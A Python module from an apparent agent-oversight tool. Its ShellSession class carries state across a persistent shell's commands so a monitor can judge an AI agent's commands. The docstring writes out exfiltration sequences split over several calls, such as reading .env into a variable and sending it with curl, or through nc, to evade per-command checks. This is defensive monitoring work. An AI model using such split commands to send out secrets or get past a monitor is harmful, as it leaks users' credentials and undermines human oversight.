"""A shell kept across commands (tmux, the Anthropic API's bash tool) for a Monitor user: ShellSession.

A persistent shell remembers what each command left: `K=$(cat .env)` in one call, `curl "https://x/?k=$K"` in the
next; `exec 3< .env`, then `nc host 80 <&3`; `f(){ curl -d @"$1" x; }`, then `f .env`. Each command judged alone
misses them. The Claude Code hook records them in its state file per session; a Monitor user passes the commands of
one shell through a ShellSession, which keeps the same record in memory.
"""
from __future__ import annotations

from collections.abc import Mapping, MutableMapping
from dataclasses import dataclass, replace
from dataclasses import field as _field
from typing import Any

from veriguard.enforce.shell import ShellExtractor, assigned_names, defined_names, set_to_run

__all__ = ["SHELL_OWN", "ShellSession", "session_extractors", "session_names"]

SHELL_OWN = frozenset({"IFS"})   # set by `IFS== read -r k v < .env` itself, never from what it reads


def session_names(extractors: Mapping[str, Any], arguments: Mapping[str, Any], command: str) -> list[str]:
    """What a persistent shell keeps after `command` ran, decided with `arguments` by a monitor with `extractors`:
    the functions and aliases it may define (shell.defined_names), what it sets the shell to run around later commands
    (shell.set_to_run), and, where it reads one of the project's secrets
    (a `carried` zone, by name, through a copy, or through a variable already so marked), the names of the variables
    it may assign (shell.assigned_names; ANY_NAME for a name built at run time), the descriptors its `exec` opens and
    the keys of a secret file it sources (ShellExtractor.sourced)."""
    shells = [(name, x) for name, x in extractors.items() if isinstance(x, ShellExtractor)]
    assigned = assigned_names(command)
    names = [*defined_names(command), *set_to_run(command, assigned)]
    for name, x in shells:
        got = arguments.get(name)
        if x.part == "touched" and isinstance(got, (list, tuple)) and any(
                isinstance(t, (list, tuple)) and len(t) == 2 and t[0] == "read" and t[1] in x.zones.carried
                for t in got):
            names += [*assigned, *(n for _, s in shells for n in s.sourced.get(command, ()))]
            break
    return [n for n in dict.fromkeys(names) if n not in SHELL_OWN]


def session_extractors(extractors: MutableMapping[str, Any], tainted: tuple[str, ...], extra: tuple[Any, ...] = (),
                       *, keep: bool = False) -> None:
    """Sets each shell extractor of `extractors` to read `tainted` (what the shell's earlier commands left in it:
    session_names; with `keep`, an empty `tainted` keeps the extractor's own) and the places `extra` (copies of the
    project's secrets), and to note afresh what this command copies, sends, leaves unfollowed, backgrounds, sources."""
    for name, x in list(extractors.items()):
        if isinstance(x, ShellExtractor):
            extractors[name] = replace(x, places=x.places + extra, track_copies=True, copies={}, sends={},
                                       unfollowed={}, background={}, sourced={},
                                       tainted=(tainted or x.tainted) if keep else tainted)


@dataclass
class ShellSession:
    """The commands of one persistent shell, each decided by `monitor` (a Monitor whose spec reads shell commands:
    shell_agent) knowing what the shell's earlier allowed commands left in it (`names`: session_names). Use one per
    shell: `session = ShellSession(Monitor.from_build(...))`, then `session.check({"command": c, "cwd": ..., "home":
    ...})` for each command in order, in place of `monitor.check`, and `session.ran(observation, record)` for one a
    human approved and the caller ran."""

    monitor: Any
    names: set[str] = _field(default_factory=set)

    def check(self, observation: Mapping[str, Any], **kw: Any) -> Any:
        """monitor.check(observation, **kw) with the shell's record; an allowed command's names are added to it (ran)."""
        extractors: MutableMapping[str, Any] = self.monitor.extractors
        session_extractors(extractors, tuple(sorted(self.names)))
        record = self.monitor.check(observation, **kw)
        if record.allowed:
            self.ran(observation, record)
        return record

    def ran(self, observation: Mapping[str, Any], record: Any) -> None:
        """Adds to the record what the command of `observation`, last checked (`record`), left in the shell: call it
        for a command run after a human approved it (its record was not allowed), before the next check."""
        command = self._command(observation)
        if command is not None and not record.fail_closed:
            self.names.update(session_names(self.monitor.extractors, record.arguments, command))

    def _command(self, observation: Mapping[str, Any]) -> str | None:
        """The command text the shell extractors read from `observation` (their `field`)."""
        from veriguard.enforce.extract_errors import ExtractionError
        from veriguard.enforce.extractors import _path

        for x in self.monitor.extractors.values():
            if isinstance(x, ShellExtractor):
                try:
                    text = _path(observation, x.field)
                except ExtractionError:   # the monitor has denied it already: nothing ran
                    return None
                return text if isinstance(text, str) else None
        return None
